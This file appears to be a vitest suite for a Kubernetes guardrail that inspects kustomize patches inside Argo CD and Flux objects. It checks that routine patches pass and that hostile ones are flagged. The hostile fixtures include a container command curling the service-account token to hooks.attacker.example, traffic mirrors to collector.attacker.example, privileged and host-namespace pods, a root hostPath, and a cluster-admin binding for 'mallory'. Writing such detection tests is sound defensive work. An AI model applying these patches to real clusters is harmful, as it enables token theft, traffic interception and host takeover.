import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { guardSettings, kube } from '../support/guardrails.js';

/**
 * Every kustomize patch a GitOps object carries, judged as the PATCH of the object it patches
 * (src/guardrails/rules/gitops-patches.ts, inspect.ts judgeGitopsPatches): Argo CD Applications
 * and ApplicationSets, Flux Kustomizations and HelmRelease post-renderers. Session 47's closing
 * note: a mirror (or a privileged container, a hostPath, a token sent out) through a kustomize
 * patch was applied by the controller unseen; only its images were read.
 */

const settings = guardSettings('guardrails: {}\n');
const codes = (r: GuardrailResult) => [...new Set(r.violations.map((v) => v.code))].sort();
const JSON_CT = 'application/json';
const MERGE = 'application/merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';

const APPS = '/apis/argoproj.io/v1alpha1/namespaces/argocd/applications';
const APPSETS = '/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets';
const KUSTOMIZATIONS = '/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations';
const HELMRELEASES = '/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases';

type Patch = { patch: string; target?: object };
const repo = { repoURL: 'https://git.tessaly.example/shop/deploy.git', path: 'checkout/overlays/prod', targetRevision: 'main' };
const app = (patches: Patch[]) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'checkout-prod', namespace: 'argocd' }, spec: { project: 'shop', destination: { server: 'https://kubernetes.default.svc', namespace: 'shop' }, source: { ...repo, kustomize: { patches } } } });
const kustomization = (patches: Patch[]) => ({ apiVersion: 'kustomize.toolkit.fluxcd.io/v1', kind: 'Kustomization', metadata: { name: 'shop', namespace: 'flux-system' }, spec: { interval: '10m', path: './shop', prune: true, sourceRef: { kind: 'GitRepository', name: 'flux-system' }, targetNamespace: 'shop', patches } });
const release = (patches: Patch[]) => ({ apiVersion: 'helm.toolkit.fluxcd.io/v2', kind: 'HelmRelease', metadata: { name: 'podinfo', namespace: 'shop' }, spec: { interval: '5m', chart: { spec: { chart: 'podinfo', sourceRef: { kind: 'HelmRepository', name: 'podinfo' } } }, postRenderers: [{ kustomize: { patches } }] } });

const post = (path: string, body: object) => inspect(kube('POST', path), JSON.stringify(body), JSON_CT, false, settings);
/** The same patches through each of the three GitOps objects that carry them. */
const everywhere = (patches: Patch[]) => [post(APPS, app(patches)), post(KUSTOMIZATIONS, kustomization(patches)), post(HELMRELEASES, release(patches))];

const deployment = (name: string) => ({ kind: 'Deployment', name });

/**
 * Routine patches, in the shapes public Argo CD and Flux repositories carry them (kustomize's own
 * examples, Flux's bootstrap customisations, Argo CD's install overlays, XenitAB's and others'
 * platform templates): replicas, resources, args, env, labels and annotations, probes, scheduling,
 * image tags, Ingress hosts, ConfigMap data, a `$patch: delete`. None may ask anything.
 */
const ROUTINE: [string, Patch][] = [
  ['replicas (JSON 6902)', { target: deployment('nginx-deployment'), patch: '- op: replace\n  path: /spec/replicas\n  value: 4\n' }],
  ['replicas (strategic merge)', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: nginx-deployment\nspec:\n  replicas: 2\n' }],
  ['replicas, target by group and version', { target: { group: 'apps', version: 'v1', kind: 'Deployment', name: 'my-app' }, patch: '- op: replace\n  path: /spec/replicas\n  value: 3\n' }],
  ['argocd-cm data', { target: { kind: 'ConfigMap', name: 'argocd-cm' }, patch: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: argocd-cm\n  namespace: argocd\ndata:\n  application.resourceTrackingMethod: annotation+label\n' }],
  ['argocd-cmd-params-cm server.insecure', { patch: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: argocd-cmd-params-cm\ndata:\n  server.insecure: "true"\n' }],
  ['argocd-server Service ports', { target: { kind: 'Service', name: 'argocd-server' }, patch: 'apiVersion: v1\nkind: Service\nmetadata:\n  name: argocd-server\nspec:\n  ports:\n  - name: https\n    port: 443\n    targetPort: 8080\n' }],
  ['$patch: delete of a Namespace the upstream manifests bring', { patch: '$patch: delete\napiVersion: v1\nkind: Namespace\nmetadata:\n  name: local-path-storage' }],
  ['a Namespace label', { patch: 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: flux-system\n  labels:\n    xkf.xenit.io/kind: "platform"\n' }],
  ['priorityClassName', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: source-controller\n  namespace: flux-system\nspec:\n  template:\n    spec:\n      priorityClassName: platform-medium\n' }],
  ['controller args appended', { target: { group: 'apps', version: 'v1', kind: 'Deployment', name: 'image-reflector-controller', namespace: 'flux-system' }, patch: '- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --aws-autologin-for-ecr\n- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --gcp-autologin-for-gcr\n' }],
  ['Flux controllers tuned by label selector (no kind)', { target: { labelSelector: 'app.kubernetes.io/part-of=flux' }, patch: '- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --concurrent=20\n- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --requeue-dependency=5s\n' }],
  ['Flux multi-tenancy lockdown by kind and name', { target: { kind: 'Deployment', name: '(kustomize-controller|helm-controller)' }, patch: '- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --no-cross-namespace-refs=true\n' }],
  ['a label on the chart\'s Deployment', { patch: 'kind: Deployment\napiVersion: apps/v1\nmetadata:\n  name: mypodinfo\n  labels:\n    xxxx: yyyy\n' }],
  ['a label by JSON 6902', { target: deployment('mypodinfo'), patch: '- op: add\n  path: /metadata/labels/yyyy\n  value: xxxx\n' }],
  ['resources', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: kustomize-controller\nspec:\n  template:\n    spec:\n      containers:\n      - name: manager\n        resources:\n          limits:\n            cpu: "2"\n            memory: 1Gi\n          requests:\n            cpu: 100m\n            memory: 256Mi\n' }],
  ['an env var', { target: deployment('argocd-repo-server'), patch: '- op: add\n  path: /spec/template/spec/containers/0/env/-\n  value:\n    name: ARGOCD_EXEC_TIMEOUT\n    value: 180s\n' }],
  ['env from a ConfigMap and a Secret of the namespace', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      containers:\n      - name: api\n        envFrom:\n        - configMapRef: {name: checkout-config}\n        - secretRef: {name: checkout-db}\n' }],
  ['pod annotations for Prometheus', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    metadata:\n      annotations:\n        prometheus.io/scrape: "true"\n        prometheus.io/port: "9090"\n' }],
  ['nodeSelector and tolerations', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      nodeSelector:\n        kubernetes.io/os: linux\n        node-pool: apps\n      tolerations:\n      - key: dedicated\n        operator: Equal\n        value: apps\n        effect: NoSchedule\n' }],
  ['pod anti-affinity', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      affinity:\n        podAntiAffinity:\n          preferredDuringSchedulingIgnoredDuringExecution:\n          - weight: 100\n            podAffinityTerm:\n              topologyKey: kubernetes.io/hostname\n              labelSelector:\n                matchLabels: {app: checkout}\n' }],
  ['topology spread', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      topologySpreadConstraints:\n      - maxSkew: 1\n        topologyKey: topology.kubernetes.io/zone\n        whenUnsatisfiable: ScheduleAnyway\n        labelSelector:\n          matchLabels: {app: checkout}\n' }],
  ['an image tag (JSON 6902)', { target: deployment('checkout'), patch: '- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: registry.tessaly.example/checkout/checkout-api:7.14.3\n' }],
  ['probes', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      containers:\n      - name: api\n        readinessProbe:\n          httpGet: {path: /healthz, port: 8080}\n          periodSeconds: 5\n        livenessProbe:\n          httpGet: {path: /livez, port: 8080}\n          initialDelaySeconds: 20\n' }],
  ['hardening securityContext', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      securityContext:\n        runAsNonRoot: true\n        seccompProfile: {type: RuntimeDefault}\n      containers:\n      - name: api\n        securityContext:\n          allowPrivilegeEscalation: false\n          readOnlyRootFilesystem: true\n          capabilities: {drop: [ALL]}\n' }],
  ['a limit removed', { target: deployment('checkout'), patch: '- op: remove\n  path: /spec/template/spec/containers/0/resources/limits/cpu\n' }],
  ['rolling update strategy', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  strategy:\n    rollingUpdate: {maxSurge: 25%, maxUnavailable: 0}\n  revisionHistoryLimit: 3\n' }],
  ['terminationGracePeriodSeconds', { target: deployment('checkout'), patch: '- op: add\n  path: /spec/template/spec/terminationGracePeriodSeconds\n  value: 60\n' }],
  ['an emptyDir scratch volume', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      volumes:\n      - name: tmp\n        emptyDir: {}\n      containers:\n      - name: api\n        volumeMounts:\n        - {name: tmp, mountPath: /tmp}\n' }],
  ['$patch: delete of a Deployment', { patch: '$patch: delete\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: dex-server\n' }],
  ['an Ingress host', { target: { group: 'networking.k8s.io', version: 'v1', kind: 'Ingress', name: 'checkout' }, patch: '- op: replace\n  path: /spec/rules/0/host\n  value: checkout.shop.tessaly.example\n' }],
  ['an Ingress issuer annotation', { patch: 'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: checkout\n  annotations:\n    cert-manager.io/cluster-issuer: letsencrypt-prod\n    nginx.ingress.kubernetes.io/proxy-body-size: 8m\n' }],
  ['HPA bounds', { patch: 'apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nmetadata:\n  name: checkout\nspec:\n  minReplicas: 3\n  maxReplicas: 12\n' }],
  ['a CronJob schedule', { target: { group: 'batch', version: 'v1', kind: 'CronJob', name: 'report' }, patch: '- op: replace\n  path: /spec/schedule\n  value: "30 2 * * *"\n' }],
  ['a PodDisruptionBudget', { patch: 'apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata:\n  name: checkout\nspec:\n  minAvailable: 2\n' }],
  ['a StatefulSet claim size', { target: { kind: 'StatefulSet', name: 'postgres' }, patch: '- op: replace\n  path: /spec/volumeClaimTemplates/0/spec/resources/requests/storage\n  value: 50Gi\n' }],
  ['a Service annotation', { patch: 'apiVersion: v1\nkind: Service\nmetadata:\n  name: checkout\n  annotations:\n    service.kubernetes.io/topology-mode: Auto\n' }],
  ['ConfigMap values', { target: { kind: 'ConfigMap', name: 'checkout-config' }, patch: '- op: replace\n  path: /data/LOG_LEVEL\n  value: debug\n' }],
  ['a common annotation on everything a selector picks', { target: { labelSelector: 'app.kubernetes.io/part-of=shop' }, patch: '- op: add\n  path: /metadata/annotations/owner\n  value: team-shop\n' }],
  ['replicas of whatever is named checkout', { target: { name: 'checkout' }, patch: '- op: replace\n  path: /spec/replicas\n  value: 3\n' }],
  ['resources of Deployments and StatefulSets (a regular-expression kind)', { target: { kind: 'Deployment|StatefulSet', labelSelector: 'tier=backend' }, patch: '- op: add\n  path: /spec/template/spec/containers/0/resources\n  value: {requests: {cpu: 50m, memory: 64Mi}}\n' }],
  ['a VirtualService timeout and retries', { target: { group: 'networking.istio.io', kind: 'VirtualService', name: 'checkout' }, patch: '- op: add\n  path: /spec/http/0/timeout\n  value: 10s\n- op: add\n  path: /spec/http/0/retries\n  value: {attempts: 3, perTryTimeout: 2s}\n' }],
  ['a VirtualService shadow to the namespace\'s own v2', { patch: 'apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: checkout\nspec:\n  http:\n  - route:\n    - destination: {host: checkout, subset: v1}\n    mirror: {host: checkout, subset: v2}\n    mirrorPercentage: {value: 5}\n' }],
  ['HTTPRoute hostnames', { target: { group: 'gateway.networking.k8s.io', kind: 'HTTPRoute', name: 'checkout' }, patch: '- op: replace\n  path: /spec/hostnames\n  value: [checkout.shop.tessaly.example]\n' }],
  ['a ServiceMonitor interval', { target: { group: 'monitoring.coreos.com', version: 'v1', kind: 'ServiceMonitor', name: 'checkout' }, patch: '- op: replace\n  path: /spec/endpoints/0/interval\n  value: 15s\n' }],
  ['a Certificate dnsNames', { patch: 'apiVersion: cert-manager.io/v1\nkind: Certificate\nmetadata:\n  name: checkout-tls\nspec:\n  dnsNames: [checkout.shop.tessaly.example]\n' }],
  ['imagePullSecrets', { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      imagePullSecrets:\n      - name: regcred\n' }],
  ['a patch in JSON', { target: deployment('checkout'), patch: '[{"op": "replace", "path": "/spec/replicas", "value": 5}]' }],
];

describe('kustomize patches a GitOps object carries: routine ones ask nothing', () => {
  it(`has a corpus of at least 40 routine patches (${ROUTINE.length})`, () => {
    expect(ROUTINE.length).toBeGreaterThanOrEqual(40);
  });

  it.each(ROUTINE)('%s', (_, patch) => {
    for (const r of everywhere([patch])) {
      expect(r.violations).toEqual([]);
      expect(r.unreadable).toBeUndefined();
    }
  });

  it('all of them at once in one Application', () => {
    const r = post(APPS, app(ROUTINE.map(([, p]) => p)));
    expect(r.violations).toEqual([]);
    expect(r.unreadable).toBeUndefined();
  });
});

const privileged = { target: deployment('checkout'), patch: '- op: add\n  path: /spec/template/spec/containers/0/securityContext\n  value: {privileged: true}\n' };
const hostPath = { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      volumes:\n      - name: root\n        hostPath: {path: /}\n' };
const hostNetwork = { target: deployment('checkout'), patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: placeholder\nspec:\n  template:\n    spec:\n      hostNetwork: true\n' };
const egress = { patch: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: checkout\nspec:\n  template:\n    spec:\n      containers:\n      - name: api\n        command: ["sh", "-c", "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://hooks.attacker.example/t; exec /app/api"]\n' };
const mirror = { target: { group: 'networking.istio.io', version: 'v1', kind: 'VirtualService', name: 'checkout' }, patch: '- op: add\n  path: /spec/http/0/mirror\n  value: {host: collector.attacker.example}\n' };

describe('kustomize patches a GitOps object carries: what the same kubectl patch would be flagged for', () => {
  it.each<[string, Patch, string, string]>([
    ['a privileged container', privileged, 'privileged_container', 'patch.spec.template.spec.containers[0].securityContext.privileged'],
    ['a hostPath volume', hostPath, 'host_path_volume', 'patch.spec.template.spec.volumes[0].hostPath'],
    ['hostNetwork (a target over the patch\'s own placeholder name)', hostNetwork, 'host_namespace', 'patch.spec.template.spec.hostNetwork'],
    ['a command sending the token out', egress, 'container_command_egress', 'patch.spec.template.spec.containers[0]'],
    ['a VirtualService mirror out of the cluster', mirror, 'traffic_mirrored', 'patch.spec.http[0].mirror.host'],
  ])('%s, in an Application, a Kustomization and a HelmRelease post-renderer', (_, patch, code, tail) => {
    const [a, k, h] = everywhere([patch]);
    expect(codes(a!)).toEqual([code]);
    expect(a!.violations[0]!.path).toBe(`spec.source.kustomize.patches[0].${tail}`);
    expect(a!.violations[0]!.detail).toMatch(/^a kustomize patch of (Deployment|VirtualService): /);
    expect(codes(k!)).toEqual([code]);
    expect(k!.violations[0]!.path).toBe(`spec.patches[0].${tail}`);
    expect(codes(h!)).toEqual([code]);
    expect(h!.violations[0]!.path).toBe(`spec.postRenderers[0].kustomize.patches[0].${tail}`);
  });

  it('an ingress-nginx mirror-target annotation added by a strategic-merge patch', () => {
    const patch = { patch: 'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: checkout\n  annotations:\n    nginx.ingress.kubernetes.io/mirror-target: https://collector.attacker.example$request_uri\n' };
    for (const r of everywhere([patch])) expect(codes(r)).toEqual(['traffic_mirrored']);
  });

  it('a target that names no kind is judged as each kind it may select (the union), once', () => {
    for (const target of [{ labelSelector: 'app=checkout' }, { name: 'checkout' }, { kind: 'Deployment|StatefulSet' }, { annotationSelector: 'team=shop' }]) {
      const r = post(APPS, app([{ target, patch: privileged.patch }]));
      expect(codes(r), JSON.stringify(target)).toEqual(['privileged_container']);
      expect(r.violations).toHaveLength(1);
      expect(r.violations[0]!.detail).toMatch(/^a kustomize patch of whatever its target selects: /);
      // A mirror through a selector is a VirtualService's as much as a Deployment's.
      expect(codes(post(APPS, app([{ target, patch: mirror.patch }]))), JSON.stringify(target)).toEqual(['traffic_mirrored']);
      // A CronJob's pod template sits elsewhere: read there too.
      const cron = '- op: add\n  path: /spec/jobTemplate/spec/template/spec/hostPID\n  value: true\n';
      expect(codes(post(APPS, app([{ target, patch: cron }]))), JSON.stringify(target)).toEqual(['host_namespace']);
    }
  });

  it('a binding patched through a target with no kind or a kind spelt as a regular expression (review48b)', () => {
    const subject = '- op: add\n  path: /subjects/-\n  value: {kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}\n';
    for (const target of [{ name: 'cluster-admin' }, { kind: 'ClusterRoleBind.*', name: 'cluster-admin' }, { kind: '.*Binding', name: 'cluster-admin' }]) {
      for (const r of everywhere([{ target, patch: subject }])) expect(codes(r), JSON.stringify(target)).toContain('rbac_cluster_admin_binding');
    }
    // The same patch on a binding the target names plainly was read before (the kind's own reading).
    for (const r of everywhere([{ target: { kind: 'ClusterRoleBinding', name: 'cluster-admin' }, patch: subject }])) expect(codes(r)).toContain('rbac_cluster_admin_binding');
  });

  it("the Flux Operator's FluxInstance patches over Flux's own controllers", () => {
    const instance = (patches: Patch[]) => ({ apiVersion: 'fluxcd.controlplane.io/v1', kind: 'FluxInstance', metadata: { name: 'flux', namespace: 'flux-system' }, spec: { distribution: { version: '2.x', registry: 'ghcr.io/fluxcd' }, kustomize: { patches } } });
    const path = '/apis/fluxcd.controlplane.io/v1/namespaces/flux-system/fluxinstances';
    expect(codes(post(path, instance([{ target: { kind: 'Deployment', name: 'kustomize-controller' }, patch: egress.patch }])))).toEqual(['container_command_egress']);
    expect(post(path, instance([ROUTINE.find(([w]) => w.startsWith('Flux controllers tuned'))![1]])).violations).toEqual([]);
  });

  it("Flux's patchesJson6902 (v1beta2) lists", () => {
    const k = { ...kustomization([]), spec: { ...kustomization([]).spec, patches: undefined, patchesJson6902: [{ target: { group: 'apps', version: 'v1', kind: 'Deployment', name: 'checkout' }, patch: [{ op: 'add', path: '/spec/template/spec/hostIPC', value: true }] }] } };
    expect(codes(post(KUSTOMIZATIONS, k))).toEqual(['host_namespace']);
    expect(post(KUSTOMIZATIONS, k).violations[0]!.path).toBe('spec.patchesJson6902[0].patch.spec.template.spec.hostIPC');
  });

  it('an ApplicationSet template and a generator template carry patches too', () => {
    const template = (patches: Patch[]) => ({ metadata: { name: 'checkout-{{cluster}}' }, spec: { project: 'shop', destination: { server: '{{url}}', namespace: 'shop' }, source: { ...repo, kustomize: { patches } } } });
    const set = { apiVersion: 'argoproj.io/v1alpha1', kind: 'ApplicationSet', metadata: { name: 'checkout', namespace: 'argocd' }, spec: { generators: [{ list: { elements: [{ cluster: 'eu', url: 'https://eu.example' }], template: template([privileged]) } }], template: template([hostPath]) } };
    const r = post(APPSETS, set);
    expect(codes(r)).toEqual(['host_path_volume', 'privileged_container']);
    expect(r.violations.map((v) => v.path).sort()).toEqual(['spec.generators[0].list.template.spec.source.kustomize.patches[0].patch.spec.template.spec.containers[0].securityContext.privileged', 'spec.template.spec.source.kustomize.patches[0].patch.spec.template.spec.volumes[0].hostPath']);
    // A patch text filled from generators may be anything once filled: unread, as its images are.
    const filled = { ...set, spec: { ...set.spec, generators: [], template: template([{ target: deployment('checkout'), patch: '- op: replace\n  path: /spec/replicas\n  value: {{replicas}}\n' }]) } };
    expect(post(APPSETS, filled).unreadable).toBe('body_unreadable');
    expect(post(APPSETS, filled).unreadableDetail).toContain('filled from generators');
  });

  it("a patch of the Application itself that sets its patches (merge, JSON patch), and one that retargets a stored patch's text", () => {
    const merge = { spec: { source: { kustomize: { patches: [privileged] } } } };
    expect(codes(inspect(kube('PATCH', `${APPS}/checkout-prod`), JSON.stringify(merge), MERGE, false, settings))).toEqual(['privileged_container']);
    const ops = [{ op: 'add', path: '/spec/source/kustomize/patches/-', value: mirror }];
    expect(codes(inspect(kube('PATCH', `${APPS}/checkout-prod`), JSON.stringify(ops), JSON_PATCH, false, settings))).toEqual(['traffic_mirrored']);
    const retarget = [{ op: 'replace', path: '/spec/source/kustomize/patches/0/target', value: { kind: 'DaemonSet', name: 'node-agent' } }];
    const r = inspect(kube('PATCH', `${APPS}/checkout-prod`), JSON.stringify(retarget), JSON_PATCH, false, settings);
    expect(r.unreadable).toBe('body_unreadable');
    expect(r.unreadableDetail).toContain('sets a target without its patch');
  });

  it('a patch text that cannot be read, or that copies a value in, is unread: the controller reads it', () => {
    expect(post(APPS, app([{ target: deployment('checkout'), patch: 'spec: [unclosed' }])).unreadable).toBe('body_unreadable');
    const copy = { target: deployment('checkout'), patch: '- op: copy\n  from: /metadata/annotations/cmd\n  path: /spec/template/spec/containers/0/command\n' };
    expect(post(KUSTOMIZATIONS, kustomization([copy])).unreadable).toBe('body_unreadable');
  });

  it('reports an unlisted image a patch sets once, in the images reading (gitops-images.ts), not again as the Deployment', () => {
    const listed = guardSettings('guardrails:\n  allowed_registries: [registry.tessaly.example]\n');
    const patch = { target: deployment('checkout'), patch: '- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: registry.tessaly-cdn.example/checkout/checkout-api:7.14.2\n' };
    const r = inspect(kube('POST', APPS), JSON.stringify(app([patch])), JSON_CT, false, listed);
    expect(r.violations.map((v) => [v.code, v.path])).toEqual([['image_registry_not_allowed', 'spec.source.kustomize.patches[0].patch[0].image']]);
  });

  it('reads a bounded number of patches: past 64 entries, or 320 readings as objects, the rest are unread', () => {
    const replicas = ROUTINE[0]![1];
    expect(post(APPS, app(Array.from({ length: 64 }, () => replicas))).unreadable).toBeUndefined();
    const many = post(APPS, app(Array.from({ length: 65 }, () => replicas)));
    expect(many.unreadable).toBe('body_unreadable');
    expect(many.unreadableDetail).toContain('more than 64');
    // A selector patch is read as each kind of the union: 33 of them are more than 320 readings (32 x 10 kinds).
    const selector = { target: { labelSelector: 'app=checkout' }, patch: replicas.patch };
    expect(post(APPS, app(Array.from({ length: 32 }, () => selector))).unreadable).toBeUndefined();
    expect(post(APPS, app(Array.from({ length: 33 }, () => selector))).unreadableDetail).toContain('more than 320');
  });

  it('reads a GitOps object a wrapper carries (a ManifestWork) with its patches', () => {
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [app([privileged])] } } };
    expect(codes(post('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(['privileged_container']);
  });
});
